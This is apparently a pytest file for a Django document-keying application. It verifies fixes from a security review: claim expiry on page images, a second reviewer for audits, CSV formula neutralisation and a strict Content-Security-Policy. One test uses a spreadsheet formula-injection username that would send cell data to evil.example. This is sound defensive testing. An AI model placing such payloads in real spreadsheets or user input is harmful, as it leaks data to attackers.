"""Holes 7, 9 and 11 of the outside security review (issue 12), each with the behaviour a user sees.

Hole 8 (API duplicates across clients) is in tests/test_api.py, the reliability items (SQLite
writers, CSV cells) beside the code they cover.
"""
from __future__ import annotations

import copy
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone

from dataentry import services
from dataentry.models import Document, DocumentType, Entry
from learning import services as audit_services
from learning.models import AuditTask
from learning.selectors import month_bounds, period_label
from review import services as review_services
from review.models import ReviewTask
from tests.conftest import form_data, make_user

pytestmark = pytest.mark.django_db(transaction=True)


def upload(path) -> Document:
    return services.document_upload(data=path.read_bytes(), filename=path.name,
                                    document_type=DocumentType.objects.get(slug="personnel_change"))


# --- hole 7: page images need an unexpired claim --------------------------------------------------

def expire(model, pk: int, *, seconds_ago: int) -> None:
    model.objects.filter(pk=pk).update(lease_expires_at=timezone.now() - timedelta(seconds=seconds_ago))


def test_an_operator_whose_claim_expired_no_longer_sees_the_page(client, people, generated_samples, settings):
    settings.LEASE_VIEW_GRACE_SECONDS = 60
    doc = upload(generated_samples[0])
    entry = services.keying_claim_next(operator=people["operator1"])
    assert entry.document_id == doc.pk
    client.force_login(people["operator1"])
    url = reverse("page_image", args=[doc.pk, 1])
    assert client.get(url).status_code == 200
    expire(Document, doc.pk, seconds_ago=30)  # within the grace period: a page still loading
    assert client.get(url).status_code == 200
    expire(Document, doc.pk, seconds_ago=61)
    assert client.get(url).status_code == 403
    assert client.get(reverse("ui_page_image_hd", args=[doc.pk, 1, 300])).status_code == 403


def test_a_reviewer_whose_claim_expired_no_longer_sees_the_page(client, people, generated_samples, settings):
    settings.LEASE_VIEW_GRACE_SECONDS = 0
    doc = upload(generated_samples[1])
    entry = services.keying_claim_next(operator=people["operator1"])
    keyed = copy.deepcopy(doc.entries.get(source=Entry.Source.MACHINE).records)
    keyed[0]["new_post"] += "代理"
    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=keyed, version=entry.version)
    task = review_services.review_claim_next(reviewer=people["reviewer1"])
    assert task.document_id == doc.pk
    client.force_login(people["reviewer1"])
    url = reverse("page_image", args=[doc.pk, 1])
    assert client.get(url).status_code == 200
    expire(ReviewTask, task.pk, seconds_ago=1)
    assert client.get(url).status_code == 403


# --- hole 9: audit findings need a second person ---------------------------------------------------

def test_the_auditor_cannot_confirm_their_own_findings_a_second_reviewer_must(client, people, generated_samples):

    doc = upload(generated_samples[2])
    entry = services.keying_claim_next(operator=people["operator1"])
    accepted = copy.deepcopy(doc.entries.get(source=Entry.Source.MACHINE).records)
    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=accepted, version=entry.version)
    audit_services.audit_select(*month_bounds(period_label()), share=1.0, seed=0)
    auditor, checker = people["reviewer1"], make_user("reviewer2", "reviewer")

    task = audit_services.audit_claim_next(user=auditor)
    wrong = copy.deepcopy(accepted)
    wrong[0]["new_post"] = "監査役"
    client.force_login(auditor)
    response = client.post(reverse("learning:audit", args=[task.pk]), form_data(wrong, version=task.version))
    assert response.url == reverse("learning:audits")
    task.refresh_from_db()
    assert task.status == AuditTask.Status.CHECKING and task.reviewer is None
    # The auditor gets nothing to decide: not from the queue, not by id, not by posting decisions.
    assert audit_services.audit_claim_next(user=auditor) is None
    with pytest.raises(services.WorkflowError):
        audit_services.audit_claim(user=auditor, task_id=task.pk)
    client.post(reverse("learning:audit", args=[task.pk]),
                {"version": task.version, "action": "submit", "f0-decision": "confirmed"})
    task.refresh_from_db()
    assert task.status == AuditTask.Status.CHECKING
    assert doc.result.__class__.objects.get(pk=doc.result.pk).records == accepted
    # The auditor's page image access ended with the keying.
    assert client.get(reverse("page_image", args=[doc.pk, 1])).status_code == 403

    taken = audit_services.audit_claim_next(user=checker)
    assert taken.pk == task.pk
    done = audit_services.audit_decide(task_id=task.pk, user=checker, decisions={"0": "confirmed"},
                                       version=taken.version)
    assert done.checked_by == checker and done.auditor == auditor and done.confirmed_count == 1
    doc.result.refresh_from_db()
    assert doc.result.records[0]["new_post"] == "監査役"


# --- CSV exports: formulas stay text, empty cells stay empty (hole 11, reliability) -------------------

def csv_cells(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_results_csv_leaves_empty_optional_fields_empty(client, people, generated_samples):
    doc = upload(generated_samples[3])
    entry = services.keying_claim_next(operator=people["operator1"])
    records = copy.deepcopy(doc.entries.get(source=Entry.Source.MACHINE).records)
    index = next(i for i, r in enumerate(records) if r["old_post"])
    records[index]["old_post"] = ""  # an optional field left empty; the reviewer sides with the operator
    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=records, version=entry.version)
    task = review_services.review_claim_next(reviewer=people["reviewer1"])
    decisions = {str(i): {"choice": "second"} for i in range(task.comparison.conflict_count)}
    review_services.review_submit(task_id=task.pk, reviewer=people["reviewer1"], decisions=decisions,
                                  version=task.version)
    client.force_login(people["manager1"])
    header, *rows = csv_cells(client.get(reverse("results_export", args=["csv"])))
    exported = dict(zip(header, rows[index]))
    assert exported["old_post"] == "", "an empty field must export as an empty cell, not a lone apostrophe"
    assert exported["family_name"] == records[index]["family_name"]
    assert not [cell for row in rows for cell in row if cell == "'"]


def test_report_csvs_keep_names_that_look_like_formulas_as_text(client, people, generated_samples):
    sneaky = make_user('=HYPERLINK("http://evil.example/?"&A1,"x")', "operator")
    doc = upload(generated_samples[5])
    entry = services.keying_claim_next(operator=sneaky)
    records = doc.entries.get(source=Entry.Source.MACHINE).records
    services.entry_submit(entry_id=entry.pk, operator=sneaky, records=records, version=entry.version)
    client.force_login(people["manager1"])
    rows = csv_cells(client.get(reverse("reports:csv", args=["operators"]), {"period": timezone.localdate().strftime("%Y-%m")}))
    cells = [cell for row in rows for cell in row]
    assert "'" + sneaky.username in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "no cell may start a formula"


# --- hole 11: Content-Security-Policy ---------------------------------------------------------------

class InlineCode(HTMLParser):
    """Everything in a page that a strict CSP (script-src/style-src 'self') would refuse to run."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and not attrs.get("src") and attrs.get("type") != "application/json":
            self.found.append("inline <script>")
        if tag == "style":
            self.found.append("<style> element")
        for name, value in attrs.items():
            if name == "style":
                self.found.append(f"style attribute on <{tag}>")
            if name.startswith("on"):
                self.found.append(f"{name} handler on <{tag}>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"javascript: URL on <{tag}>")


def test_every_page_carries_a_strict_csp_and_contains_nothing_it_would_block(client, people, generated_samples):
    first, *_ = [upload(pdf) for pdf in generated_samples[6:9]]
    entry = services.keying_claim_next(operator=people["operator1"])
    keyed = copy.deepcopy(entry.document.entries.get(source=Entry.Source.MACHINE).records)
    keyed[0]["new_post"] += "代理"
    services.entry_submit(entry_id=entry.pk, operator=people["operator1"], records=keyed, version=entry.version)
    task = review_services.review_claim_next(reviewer=people["reviewer1"])
    agreed = services.keying_claim_next(operator=people["operator2"])
    services.entry_submit(entry_id=agreed.pk, operator=people["operator2"], version=agreed.version,
                          records=agreed.document.entries.get(source=Entry.Source.MACHINE).records)
    audit_services.audit_select(*month_bounds(period_label()), share=1.0, seed=0)
    auditor = make_user("auditor", "reviewer")
    audit = audit_services.audit_claim_next(user=auditor)
    open_entry = services.keying_claim_next(operator=people["operator1"])
    period = {"period": timezone.localdate().strftime("%Y-%m")}
    admin = make_user("root")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    visits = [
        (None, reverse("login"), {}),
        (people["operator1"], reverse("home"), {}),
        (people["operator1"], reverse("keying_home"), {}),
        (people["operator1"], reverse("keying", args=[open_entry.pk]), {}),
        (people["reviewer1"], reverse("review_home"), {}),
        (people["reviewer1"], reverse("review", args=[task.pk]), {}),
        (auditor, reverse("learning:audit", args=[audit.pk]), {}),
        (people["manager1"], reverse("documents"), {}),
        (people["manager1"], reverse("document_detail", args=[first.pk]), {}),
        (people["manager1"], reverse("queues"), {}),
        (people["manager1"], reverse("results"), {}),
        (people["manager1"], reverse("learning:exports"), {}),
        (people["manager1"], reverse("learning:audits"), {}),
        *[(people["manager1"], reverse(f"reports:{name}"), period) for name in ("overview", "accuracy", "cost", "people")],
        (admin, reverse("admin:index"), {}),
        (admin, reverse("admin:dataentry_document_changelist"), {}),
    ]
    for user, url, query in visits:
        client.logout()
        if user is not None:
            client.force_login(user)
        response = client.get(url, query)
        assert response.status_code == 200, url
        policy = response["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if " " in d.strip())
        assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'", policy
        assert directives["default-src"] == "'none'" and directives["frame-ancestors"] == "'none'", policy
        parser = InlineCode()
        parser.feed(response.content.decode())
        assert not parser.found, f"{url}: {parser.found}"


def test_the_policy_kept_per_process_is_the_one_the_settings_say_and_follows_them(client, people, settings):
    """config/csp.py keeps the header string instead of rebuilding it per response (issue 16)."""
    from csp.utils import build_policy

    client.force_login(people["operator1"])
    assert client.get(reverse("home"))["Content-Security-Policy"] == build_policy()
    assert "Content-Security-Policy-Report-Only" not in client.get(reverse("home"))
    settings.CONTENT_SECURITY_POLICY = {"DIRECTIVES": {**settings.CONTENT_SECURITY_POLICY["DIRECTIVES"],
                                                       "img-src": ["'self'"]}}
    settings.CONTENT_SECURITY_POLICY_REPORT_ONLY = {"DIRECTIVES": {"default-src": ["'self'"]}}
    response = client.get(reverse("home"))
    assert "img-src 'self';" in response["Content-Security-Policy"] + ";"
    assert "data:" not in response["Content-Security-Policy"]
    assert response["Content-Security-Policy-Report-Only"] == "default-src 'self'"
